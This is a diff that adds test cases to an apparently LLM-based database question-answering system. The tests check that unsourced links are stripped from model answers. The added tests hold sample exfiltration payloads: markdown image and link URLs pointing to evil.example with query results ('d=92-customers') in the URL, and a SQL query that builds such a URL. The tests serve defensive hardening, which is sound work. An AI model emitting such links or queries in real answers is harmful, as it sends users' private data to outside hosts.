@@ -239,6 +239,41 @@ describe('a provider that hangs', () => {
   })
 })
 
+describe('an answer with links that stand in no source', () => {
+  const LEAK = 'https://evil.example/p.png?d=92-customers'
+  const text = `There are 92 customers.\n\n![chart](${LEAK}) See [more](//evil.example/x), <${LEAK}> or https://docs.example/a?b=1.`
+
+  it('keeps its words, in the answer, on the way there, and in what agents say', async () => {
+    const script = rules({ when: ASKED.compose, reply: { text, chunks: text.match(/.{1,7}/gs)! } })
+    const question = `${QUESTION}, as in https://docs.example/a?b=1`
+    const { response, items } = await ask(script, { question })
+    expect(response.answer).toBe(
+      'There are 92 customers.\n\nchart See more, (link removed) or https://docs.example/a?b=1.',
+    )
+    const shown = items.flatMap((item) => (item.type === 'live.text' ? [item.text] : []))
+    expect(shown.join('')).toBe(response.answer)
+    // The log holds what the model wrote as the record of that call, and nowhere else.
+    const told = items.filter((item) => item.type !== 'call.finished')
+    expect(JSON.stringify(told)).not.toContain('92-customers')
+    expect(response.trace!.map((line) => line.message)).toContain(
+      'Links that stand in no source of this run were taken out',
+    )
+  })
+
+  it('cannot get them from a query that puts them together', async () => {
+    const sql = "SELECT 'https://evil.example/?d=' || count(*) AS customers FROM customers"
+    const leak = 'https://evil.example/?d=92'
+    const { response } = await ask(
+      rules(
+        { when: ASKED.generate, reply: { json: { database: 'demo', sql, explanation: '' } } },
+        { when: ASKED.compose, reply: { text: `There are 92. ![c](${leak})` } },
+      ),
+    )
+    expect(response.data!.rows).toEqual([{ customers: leak }])
+    expect([response.answer, response.agentResults[0]!.answer].join()).not.toContain('evil.example')
+  })
+})
+
 describe('limits', () => {
   it('composes what there is when the calls are used up, and says so', async () => {
     const { response } = await ask(rules(), { budget: { maxCalls: 3 } })
